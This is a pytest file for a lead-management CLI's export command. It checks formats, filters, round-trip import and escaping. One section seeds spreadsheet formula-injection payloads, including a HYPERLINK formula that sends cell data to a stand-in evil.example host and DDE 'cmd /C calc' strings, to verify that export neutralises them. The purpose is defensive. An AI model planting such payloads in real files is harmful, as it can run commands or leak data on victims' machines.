"""`leadcli export`: every matching lead, complete, in a format `import` reads back into any
store with ids, timestamps, history, activities and custom fields intact."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from conftest import invoke

from leadcli.services.exporter import EXPORT_FIELDS
from leadcli.store import open_store


def seed(uri: str) -> None:
    """Three leads with what a user builds up over time: history, activities, custom fields."""
    for name, email, extra in (
        ("Ada Lovelace", "ada@example.com", ["--stage", "negotiation", "--tag", "vip", "--tag", "emea", "--value", "1200"]),
        ("Grace Hopper", "grace@example.com", ["--company", 'Navy, "Fleet" Ops', "--field", "tier=gold", "--notes", "two\nlines"]),
        ("José Müller", "jose@example.com", ["--engaged", "--follow-up", "2026-12-01"]),
    ):
        assert invoke("--db", uri, "add", "--name", name, "--email", email, *extra).code == 0
    assert invoke("--db", uri, "edit", "ada@example.com", "--stage", "closed-won", "--note", "signed").code == 0
    store = open_store(uri)
    try:
        ada = store.get_by_email("ada@example.com")
        assert ada is not None
        activity = {"type": "call", "at": datetime(2026, 11, 20, 9, 30, tzinfo=UTC), "by": "tester", "note": "intro"}
        store.replace({**ada, "activities": [activity]}, ada["version"], {"type": "activity_logged", "by": "tester", "changes": {}})
    finally:
        store.close()


def exported(uri: str, *args: str) -> list[dict]:
    result = invoke("--db", uri, "export", "-o", "jsonl", *args)
    assert result.code == 0, result.stderr
    return [json.loads(line) for line in result.stdout.splitlines()]


def test_export_is_csv_by_default_with_every_field_and_a_count_on_stderr(store_uri: str) -> None:
    seed(store_uri)

    result = invoke("--db", store_uri, "export")

    assert result.code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert list(rows[0]) == list(EXPORT_FIELDS)
    assert [r["email"] for r in rows] == ["ada@example.com", "grace@example.com", "jose@example.com"]  # oldest first
    assert rows[1]["company"] == 'Navy, "Fleet" Ops' and rows[1]["notes"] == "two\nlines"
    assert rows[0]["tags"] == "vip, emea"
    assert json.loads(rows[0]["activities"])[0]["note"] == "intro"
    assert result.stderr.strip() == "exported 3 lead(s)"


def test_export_applies_filters_and_fields(store_uri: str) -> None:
    seed(store_uri)

    result = invoke("--db", store_uri, "export", "--stage", "closed-won", "-o", "json", "--fields", "email,current_stage")

    assert result.code == 0, result.stderr
    assert result.json() == [{"email": "ada@example.com", "current_stage": "Closed Won"}]
    bad = invoke("--db", store_uri, "export", "--fields", "email,shoe_size")
    assert bad.code == 2 and "shoe_size" in bad.stderr and bad.stdout == ""
    assert invoke("--db", store_uri, "export", "-o", "table").code == 2


def test_export_to_a_file(store_uri: str, tmp_path: Path) -> None:
    seed(store_uri)
    target = tmp_path / "leads.jsonl"

    result = invoke("--db", store_uri, "export", "-o", "jsonl", "--file", str(target))

    assert result.code == 0, result.stderr
    assert result.stdout == ""
    assert result.stderr.strip() == f"exported 3 lead(s) to {target}"
    assert len(target.read_text().splitlines()) == 3
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".partial")]


def test_jsonl_export_imports_into_another_store_unchanged(store_uri: str, tmp_path: Path) -> None:
    """SQLite -> jsonl -> (each store) -> jsonl: the same records, ids and history included."""
    source = str(tmp_path / "source.db")
    seed(source)
    dump = invoke("--db", source, "export", "-o", "jsonl").stdout

    imported = invoke("--db", store_uri, "import", "-", "--format", "jsonl", input=dump)

    assert imported.code == 0, imported.stderr
    assert "import: 3 inserted" in imported.stderr
    assert invoke("--db", store_uri, "export", "-o", "jsonl").stdout == dump
    ada = exported(store_uri)[0]
    assert [h["to_stage"] for h in ada["stage_history"]] == ["Negotiation", "Closed Won"]
    assert ada["activities"] == [{"type": "call", "at": "2026-11-20T09:30:00.000+00:00", "by": "tester", "note": "intro"}]
    again = invoke("--db", store_uri, "import", "-", "--format", "jsonl", "--upsert", input=dump)
    assert "import: 0 inserted, 0 updated, 3 unchanged, 0 rejected" in again.stderr


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_csv_and_json_exports_are_reimportable(fmt: str, tmp_path: Path) -> None:
    source, target = str(tmp_path / "a.db"), str(tmp_path / "b.db")
    seed(source)
    dump = tmp_path / f"leads.{fmt}"
    assert invoke("--db", source, "export", "-o", fmt, "--file", str(dump)).code == 0

    result = invoke("--db", target, "import", str(dump))

    assert result.code == 0, result.stderr
    assert exported(target) == exported(source)


def test_tags_holding_separators_survive_a_csv_round_trip(store_uri: str) -> None:
    """An import splits a tags cell on "," and ";": export writes such tags as a JSON list, so
    the help's `export > all.csv && import all.csv --upsert` changes nothing."""
    invoke("--db", store_uri, "add", "--name", "T", "--email", "t@example.com", "--tag", "big, fish", "--tag", "x;y", "--tag", "[a]")
    invoke("--db", store_uri, "add", "--name", "U", "--email", "u@example.com", "--tag", "vip", "--tag", "emea")
    dump = invoke("--db", store_uri, "export").stdout
    rows = {row["email"]: row for row in csv.DictReader(io.StringIO(dump))}
    assert rows["u@example.com"]["tags"] == "vip, emea"  # plain tags stay readable

    again = invoke("--db", store_uri, "import", "-", "--format", "csv", "--upsert", input=dump)

    assert again.code == 0, again.stderr
    assert "import: 0 inserted, 0 updated, 2 unchanged, 0 rejected" in again.stderr
    assert [lead["tags"] for lead in exported(store_uri)] == [["big, fish", "x;y", "[a]"], ["vip", "emea"]]


@pytest.mark.parametrize("args", [("--stage", "bogus", "-o", "json"), ("--created-after", "notadate"), ("--follow-up-before", "soonish", "-o", "tsv")])
def test_a_bad_filter_fails_before_any_output(store_uri: str, args: tuple[str, ...]) -> None:
    seed(store_uri)
    result = invoke("--db", store_uri, "export", *args)
    assert result.code == 2
    assert (result.stdout, result.stderr.count("\n")) == ("", 1)  # no lone "[" or header row for a pipe


# -- spreadsheet formula injection (issue 14 item 5) ----------------------------------------------

HOSTILE = (
    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "h1@example.com", ["--company", "+cmd|' /C calc'!A0"]),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "h2@example.com", ["--notes", "-2+3+cmd|' /C calc'!A0", "--tag", "=evil", "--tag", "ok"]),
    ("'=already quoted", "h3@example.com", ["--phone", "+1 555 0100", "--owner", "''+twice", "--source", "-"]),
    ("Plain Name", "h4@example.com", ["--status", "=Hot", "--field", "score=-5", "--field", "note=@here", "--value", "1500"]),
)


def seed_hostile(uri: str) -> None:
    for name, email, extra in HOSTILE:
        result = invoke("--db", uri, "add", "--name", name, "--email", email, *extra)
        assert result.code == 0, result.stderr


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_csv_and_tsv_exports_neutralise_formulas_and_reimport_identically(store_uri: str, tmp_path: Path, fmt: str) -> None:
    source = str(tmp_path / "source.db")
    seed_hostile(source)
    dump = tmp_path / f"leads.{fmt}"
    assert invoke("--db", source, "export", "-o", fmt, "--file", str(dump)).code == 0

    with open(dump, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f, delimiter="\t" if fmt == "tsv" else ","))
    cells = [value for row in rows for key, value in row.items() if key not in ("stage_history", "fields", "activities")]
    # What a spreadsheet would run: a cell starting with = + - @ (tab/CR), or quotes then one
    runnable = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert runnable == []
    by_email = {row["email"]: row for row in rows}
    assert by_email["h1@example.com"]["name"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    assert by_email["h1@example.com"]["company"] == "'+cmd|' /C calc'!A0"
    assert by_email["h2@example.com"]["tags"] == "'=evil, ok"
    assert by_email["h3@example.com"]["name"] == "''=already quoted"  # a quote of its own is kept apart
    assert by_email["h3@example.com"]["source"] == "'-"
    assert by_email["h4@example.com"]["value"] == "1500"

    result = invoke("--db", store_uri, "import", str(dump))

    assert result.code == 0, result.stderr
    assert exported(store_uri) == exported(source)  # the identical leads, ids and all
    again = invoke("--db", store_uri, "import", str(dump), "--upsert")
    assert "0 inserted, 0 updated, 4 unchanged, 0 rejected" in again.stderr


def test_list_as_csv_is_neutralised_too_and_a_plain_number_is_left_a_number() -> None:
    assert invoke("add", "--name", "=1+1", "--email", "n@example.com", "--value", "250").code == 0
    out = invoke("list", "-o", "csv", "--fields", "name,value").stdout
    assert out == "name,value\n'=1+1,250\n"
    from leadcli.domain.text import from_spreadsheet_safe, spreadsheet_safe

    for number in ("-5", "+1.5", "-1e3", ".5"):
        assert spreadsheet_safe(number) == number  # spreadsheets read it as a number: not a formula
    for text in ("-5 apples", "-", "+", "=", "@", "\t-x", "'", "''=", "x=1"):
        assert from_spreadsheet_safe(spreadsheet_safe(text)) == text


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_a_value_with_three_decimals_survives_a_csv_round_trip(store_uri: str, fmt: str) -> None:
    """`1.125` reads two ways to an import (1.125, or 1125 with a European grouping dot), so it
    was a rejected row when the help's `export > all.csv && import all.csv --upsert` read it back."""
    for email, value in (("a@example.com", "1.125"), ("b@example.com", "999.5"), ("c@example.com", "12.05"), ("d@example.com", "250.375")):
        assert invoke("--db", store_uri, "add", "--name", "A", "--email", email, "--value", value).code == 0
    dump = invoke("--db", store_uri, "export", "-o", fmt).stdout

    again = invoke("--db", store_uri, "import", "-", "--format", fmt, "--upsert", input=dump)

    assert again.code == 0, again.stderr
    assert "import: 0 inserted, 0 updated, 4 unchanged, 0 rejected" in again.stderr
    assert [lead["value"] for lead in exported(store_uri)] == [1.125, 999.5, 12.05, 250.375]


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_a_carriage_return_inside_a_value_keeps_the_row_whole(store_uri: str, fmt: str) -> None:
    """Notes pasted from an old Mac file hold a lone CR. The writer, ending lines with LF, did not
    quote that cell, so every CSV reader (import too) took the CR for the end of the row: the
    re-import cut the notes to `first line` and rejected the rest as a row of its own."""
    record = {"name": "Ada", "email": "ada@example.com", "notes": "first line\rsecond line", "company": "A\rB"}
    assert invoke("--db", store_uri, "import", "-", "--format", "jsonl", input=json.dumps(record) + "\n").code == 0
    dump = invoke("--db", store_uri, "export", "-o", fmt).stdout
    rows = list(csv.DictReader(io.StringIO(dump, newline=""), delimiter="," if fmt == "csv" else "\t"))
    assert [(r["notes"], r["company"]) for r in rows] == [("first line\rsecond line", "A\rB")]

    again = invoke("--db", store_uri, "import", "-", "--format", fmt, "--upsert", input=dump)

    assert again.code == 0, again.stderr
    assert "import: 0 inserted, 0 updated, 1 unchanged, 0 rejected" in again.stderr
    assert exported(store_uri)[0]["notes"] == "first line\rsecond line"
